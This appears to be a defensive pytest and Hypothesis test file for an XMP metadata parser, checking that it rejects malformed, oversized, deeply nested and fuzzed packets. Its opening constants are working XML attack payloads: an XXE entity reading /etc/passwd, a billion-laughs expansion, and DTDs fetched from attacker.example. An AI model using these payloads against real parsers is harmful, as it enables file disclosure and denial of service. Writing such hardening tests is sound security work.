XXE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<x:xmpmeta xmlns:x="adobe:ns:meta/">&lol9;</x:xmpmeta>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE x:xmpmeta SYSTEM "http://attacker.example/xmp.dtd">
<x:xmpmeta xmlns:x="adobe:ns:meta/"/>"""

PARAMETER_ENTITY = b"""<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<x:xmpmeta xmlns:x="adobe:ns:meta/"/>"""

INTERNAL_DTD_ONLY = b"""<!DOCTYPE x:xmpmeta [<!ELEMENT x:xmpmeta ANY>]>
<x:xmpmeta xmlns:x="adobe:ns:meta/"/>"""


@pytest.mark.parametrize(
    "packet",
    [
        pytest.param(XXE, id="xxe_file_entity"),
        pytest.param(BILLION_LAUGHS, id="billion_laughs"),
        pytest.param(EXTERNAL_DTD, id="external_dtd"),
        pytest.param(PARAMETER_ENTITY, id="parameter_entity"),
        pytest.param(INTERNAL_DTD_ONLY, id="internal_dtd_without_entities"),
        pytest.param(
            b'<x:xmpmeta xmlns:x="adobe:ns:meta/">&undefined;</x:xmpmeta>', id="undefined_entity"
        ),
    ],
)
@pytest.mark.parametrize(
    "reader", [parse_packet, read_properties, lambda p: build_packet(make_prov(), existing=p)]
)
def test_dtds_and_entities_are_refused(packet: bytes, reader: Any) -> None:
    with pytest.raises(XmpError, match=r"DTD|entity|well-formed"):
        reader(packet)


@pytest.mark.parametrize(
    ("packet", "message"),
    [
        pytest.param(
            "<x:xmpmeta xmlns:x='adobe:ns:meta/' x:a='é'/>".encode("latin-1"),
            "not UTF-8",
            id="latin1",
        ),
        pytest.param(
            "<x:xmpmeta xmlns:x='adobe:ns:meta/'/>".encode("utf-16"), "not UTF-8", id="utf16_bom"
        ),
        pytest.param(
            "<x:xmpmeta xmlns:x='adobe:ns:meta/'/>".encode("utf-16-be"),
            "not UTF-8|well-formed",
            id="utf16be",
        ),
        pytest.param(b"<a>\xed\xa0\x80</a>", "not UTF-8", id="utf8_encoded_surrogate"),
        pytest.param(b"", "empty", id="empty"),
        pytest.param(b" \n\t ", "empty", id="whitespace_only"),
        pytest.param(b"<a>\x00</a>", "NUL byte", id="nul"),
        pytest.param(b"<a>&#1;</a>", "well-formed", id="control_character_reference"),
        pytest.param(b"not xml", "well-formed", id="not_xml"),
        pytest.param(b"<a/><b/>", "well-formed", id="two_roots"),
        pytest.param(b"<a:b/>", "well-formed", id="unbound_prefix"),
    ],
)
def test_bad_bytes_are_refused(packet: bytes, message: str) -> None:
    with pytest.raises(XmpError, match=message):
        parse_packet(packet)


def test_oversized_packet_is_refused_before_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    import provenance._core.xmp._tree as module

    def no_parser(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("parser must not be built for an oversized packet")

    monkeypatch.setattr(module, "DefusedXMLParser", no_parser)
    with pytest.raises(XmpError, match="over the 1048576"):
        parse_packet(b" " * (MAX_PACKET_BYTES + 1))
    with pytest.raises(XmpError, match="over the 1048576"):
        build_packet(make_prov(), existing=b"<" * (MAX_PACKET_BYTES + 1))


def test_packet_at_the_limit_is_parsed() -> None:
    packet = build_packet(make_prov())
    padded = packet + b" " * (MAX_PACKET_BYTES - len(packet))
    assert len(padded) == MAX_PACKET_BYTES
    assert parse_packet(padded) == make_prov()


def test_truncated_packets_are_refused() -> None:
    packet = build_packet(make_prov())
    end_of_root = packet.index(b"</x:xmpmeta>") + len(b"</x:xmpmeta>")
    for cut in [*range(1, 200), *range(200, end_of_root, 37), end_of_root - 1]:
        with pytest.raises(XmpError):
            parse_packet(packet[:cut])


def test_deep_nesting_is_refused() -> None:
    packet = b"<a>" * 5000 + b"</a>" * 5000
    with pytest.raises(XmpError, match="nests deeper"):
        parse_packet(packet)


def test_too_many_elements_are_refused() -> None:
    packet = b"<a>" + b"<b/>" * 200_000 + b"</a>"
    assert len(packet) < MAX_PACKET_BYTES
    with pytest.raises(XmpError, match="more than"):
        parse_packet(packet)


_VALID = build_packet(make_prov(), existing=PHOTOSHOP_PACKET)


@st.composite
def mutated_packets(draw: st.DrawFn) -> bytes:
    data = bytearray(_VALID)
    for _ in range(draw(st.integers(1, 6))):
        kind = draw(st.sampled_from(["flip", "insert", "delete", "truncate", "splice"]))
        position = draw(st.integers(0, max(len(data) - 1, 0)))
        if kind == "flip" and data:
            data[position] = draw(st.integers(0, 255))
        elif kind == "insert":
            snippet = draw(
                st.sampled_from(
                    [
                        b"<",
                        b">",
                        b"&",
                        b"&amp;",
                        b"<!DOCTYPE x>",
                        b"<rdf:li>",
                        b"</rdf:Seq>",
                        b'"',
                        b"\x00",
                        b"\xc3",
                    ]
                )
                | st.binary(max_size=8)
            )
            data[position:position] = snippet
        elif kind == "delete":
            del data[position : position + draw(st.integers(1, 40))]
        elif kind == "truncate":
            del data[position:]
        else:
            start = draw(st.integers(0, max(len(_VALID) - 1, 0)))
            data[position:position] = _VALID[start : start + draw(st.integers(1, 200))]
    return bytes(data)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(packet=mutated_packets())
def test_mutated_packets_raise_only_provenance_errors(packet: bytes) -> None:
    for reader in (parse_packet, read_properties):
        with contextlib.suppress(ProvenanceError):
            reader(packet)
    try:
        merged = build_packet(make_prov(), existing=packet)
    except ProvenanceError:
        return
    # Whatever was kept from a damaged packet, our block still reads back exactly.
    assert parse_packet(merged) == make_prov()


@settings(max_examples=200, deadline=None)
@given(packet=st.binary(max_size=300))
def test_arbitrary_bytes_raise_only_provenance_errors(packet: bytes) -> None:
    with contextlib.suppress(ProvenanceError):
        parse_packet(packet)


# ------------------------------------------------------------- read_properties


def test_read_properties_flattens_for_reports() -> None:
    props = read_properties(build_packet(make_prov(), existing=PHOTOSHOP_PACKET))
    assert props["xmp:CreatorTool"] == "Adobe Photoshop 25.0 (Macintosh)"
    assert props["dc:title"] == "Sneaker & laces — front"
    assert props["dc:creator[1]"] == "Jane Studio"
    assert props["dc:creator[2]"] == "ACME Retouch"
    assert props["dc:subject[2]"] == "packshot"
    assert props["xmpMM:History[2]/stEvt:action"] == "saved"
    assert props["acme:Asset/acme:Sku"] == "4711"
    assert props["acme:Asset/acme:Channel[1]"] == "web"
    assert props["Iptc4xmpExt:DigitalSourceType"] == DST
    assert props["xmpMM:DerivedFrom/stRef:documentID"] == make_prov().derived_from_document_id
    assert props["provn:CertificateChain[2]"] == make_prov().certificate_chain[1]
    assert "provn:FutureField" not in props


def test_read_properties_uses_the_packets_prefixes() -> None:
    props = read_properties(BARE_RDF_PACKET)
    assert props == {
        "xapMM:DocumentID": "uuid:old-doc",
        "xapMM:Manager": "ACME DAM",
        "provn:Note": "a different provn namespace",
    }
    assert read_properties(b'<x:xmpmeta xmlns:x="adobe:ns:meta/"/>') == {}


def test_read_properties_alt_without_x_default_and_resources() -> None:
    packet = b"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
        xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:e="urn:e:">
      <rdf:Description rdf:about="">
        <dc:rights><rdf:Alt><rdf:li xml:lang="fr">Tous droits</rdf:li></rdf:Alt></dc:rights>
        <e:link rdf:resource="https://example.com/x"/>
        <e:literal rdf:parseType="Literal"><b>odd</b></e:literal>
        <e:empty/>
      </rdf:Description>
    </rdf:RDF>"""
    assert read_properties(packet) == {
        "dc:rights": "Tous droits",
        "e:link": "https://example.com/x",
        "e:empty": "",
    }


def test_error_messages_are_one_line() -> None:
    for packet in (XXE, b"<a>", b"\xff", _VALID.replace(b"<provn:Signature>", b"<provn:S>", 1)):
        with pytest.raises(XmpError) as info:
            parse_packet(packet)
        assert "\n" not in str(info.value)
        assert re.search(r"passwd|lol", str(info.value)) is None
